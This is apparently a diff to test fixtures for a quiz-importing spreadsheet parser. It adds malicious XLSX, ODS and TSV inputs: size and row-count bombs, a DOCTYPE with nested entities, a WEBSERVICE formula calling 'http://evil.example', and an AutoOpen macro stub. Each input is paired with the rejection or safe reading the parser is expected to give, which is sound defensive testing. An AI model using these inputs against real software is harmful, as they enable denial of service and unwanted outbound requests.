@@ -1,5 +1,5 @@
 import type { FixtureFile, Outcome, Rows } from './fixture-file.ts'
-import { asBomb, ods, separated, xlsx, zipped } from './fixture-file.ts'
+import { asBomb, ods, separated, workbook, xlsx, zipped } from './fixture-file.ts'
 
 const LONG = 'Which of the rivers of Europe crosses more than three countries on its way to the sea?'
 
@@ -72,6 +72,11 @@ const TABLES: readonly (readonly [string, Rows, Outcome])[] = [
 
 const EXTRA_HEADINGS = 'Question,Answer 1,Answer 2,Correct'
 
+const inlineRow = (number: number, ...texts: string[]) =>
+  `<row r="${number}">${texts.map((text, index) => `<c r="${'ABCD'[index]}${number}" t="inlineStr"><is><t>${text}</t></is></c>`).join('')}</row>`
+const SHEET_ROWS =
+  inlineRow(1, 'Question', 'Answer 1', 'Answer 2', 'Correct') + inlineRow(2, 'Capital?', 'Oslo', 'Rome', '1')
+
 export const XLSX_FILES: readonly FixtureFile[] = [
   ...TABLES.map(([name, rows, outcome]): FixtureFile => [name, () => xlsx(rows), outcome]),
   [
@@ -81,8 +86,60 @@ export const XLSX_FILES: readonly FixtureFile[] = [
   ],
   ['half of the archive', async () => (await xlsx(TABLES[0]![1])).slice(0, 300), /damaged/],
   ['an archive that declares 500 MB', async () => asBomb(await xlsx(TABLES[0]![1])), /more than 100 MB/],
+  ['a cell in row 2,000,000,000', () => workbook('<row><c r="A2000000000"><v>1</v></c></row>'), /more than 20000 rows/],
+  ['a cell in row 1e9', () => workbook('<row><c r="A1e9"><v>1</v></c></row>'), /more than 20000 rows/],
+  [
+    'a cell in a column of small letters',
+    () => workbook('<row><c r="zzzzzz1"><v>1</v></c></row>'),
+    /more than 4000000 cells/,
+  ],
+  ['two million empty rows', () => workbook('<row/>'.repeat(2_000_000)), /more than 20000 rows/],
+  ['an empty row 2,000,000,000', () => workbook('<row r="2000000000"/>'), /more than 20000 rows/],
+  [
+    'a value in the last cell of a large sheet',
+    () => workbook('<row r="20000"><c r="XFD20000"><v>1</v></c></row>'),
+    /more than 4000000 cells/,
+  ],
+  [
+    'a format in the last row of a sheet',
+    () => workbook(`${SHEET_ROWS}<row r="1048576"><c r="A1048576" s="0"/></row>`),
+    { questions: 1 },
+  ],
+  [
+    'a document type with entities',
+    () => workbook(SHEET_ROWS, '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'),
+    /DOCTYPE/,
+  ],
+  [
+    'formulas, of which the last result is read, and a macro',
+    () =>
+      workbook(
+        SHEET_ROWS.replace(
+          '<c r="B2" t="inlineStr">',
+          '<c r="B2" t="str"><f>WEBSERVICE("http://evil.example")</f>',
+        ).replace('<is><t>Oslo</t></is>', '<v>Oslo</v>'),
+        '',
+        { 'xl/vbaProject.bin': 'Sub AutoOpen()' },
+      ),
+    { questions: 1 },
+  ],
+  [
+    'one long text in thousands of cells',
+    () =>
+      workbook(
+        Array.from({ length: 3000 }, (_, index) => `<row><c r="A${index + 1}" t="s"><v>0</v></c></row>`).join(''),
+        '',
+        { 'xl/sharedStrings.xml': `<sst><si><t>${'a'.repeat(10_000)}</t></si></sst>` },
+      ),
+    /larger than 20 MB/,
+  ],
   ['a workbook without sheets', () => zipped({ 'xl/workbook.xml': '<workbook/>' }), /damaged|no row of headings/],
 ]
+
+const odsContent = (rows: string) =>
+  `<d xmlns:office="o" xmlns:table="t" xmlns:text="x"><office:spreadsheet><table:table>${rows}</table:table></office:spreadsheet></d>`
+const odsRow = (...cells: string[]) =>
+  `<table:table-row>${cells.map((cell) => `<table:table-cell><text:p>${cell}</text:p></table:table-cell>`).join('')}</table:table-row>`
 
 export const ODS_FILES: readonly FixtureFile[] = [
   ...TABLES.map(([name, rows, outcome]): FixtureFile => [name, () => ods(rows), outcome]),
@@ -92,11 +149,33 @@ export const ODS_FILES: readonly FixtureFile[] = [
     /DOCTYPE/,
   ],
   [
+    'line breaks, tabs and spaces as elements',
+    () =>
+      zipped({
+        'content.xml': odsContent(
+          odsRow('Question', 'Answer 1', 'Answer 2', 'Correct') +
+            odsRow('Which<text:line-break/>city<text:s text:c="3"/>is', 'Oslo', 'Rome<text:tab/>city', '1'),
+        ),
+      }),
+    { questions: 1 },
+  ],
+  [
+    'a long text in repeated cells and rows',
+    () =>
+      zipped({
+        'content.xml': odsContent(
+          `<table:table-row table:number-rows-repeated="19000"><table:table-cell table:number-columns-repeated="200"><text:p>${'a'.repeat(100)}</text:p></table:table-cell></table:table-row>`,
+        ),
+      }),
+    /larger than 20 MB/,
+  ],
+  [
     'a row that is repeated a million times',
     () =>
       zipped({
-        'content.xml':
-          '<d xmlns:office="o" xmlns:table="t" xmlns:text="x"><office:spreadsheet><table:table><table:table-row table:number-rows-repeated="1000000"><table:table-cell><text:p>Why?</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></d>',
+        'content.xml': odsContent(
+          '<table:table-row table:number-rows-repeated="1000000"><table:table-cell><text:p>Why?</text:p></table:table-cell></table:table-row>',
+        ),
       }),
     /more than 20000 rows/,
   ],
@@ -115,6 +194,11 @@ export const CSV_FILES: readonly FixtureFile[] = [
 
 export const TSV_FILES: readonly FixtureFile[] = [
   ...TABLES.map(([name, rows, outcome]): FixtureFile => [name, separated(rows, '\t'), outcome]),
+  [
+    'a heading of many columns above many short rows',
+    `Question\tCorrect${'\ta'.repeat(100_000)}\n${'q\n'.repeat(100_000)}`,
+    /more than 4000000 cells/,
+  ],
   [
     'cells copied from a spreadsheet',
     'Question\tAnswer 1\tAnswer 2\tCorrect\nCapital, or town?\tOslo\tRome\tA',
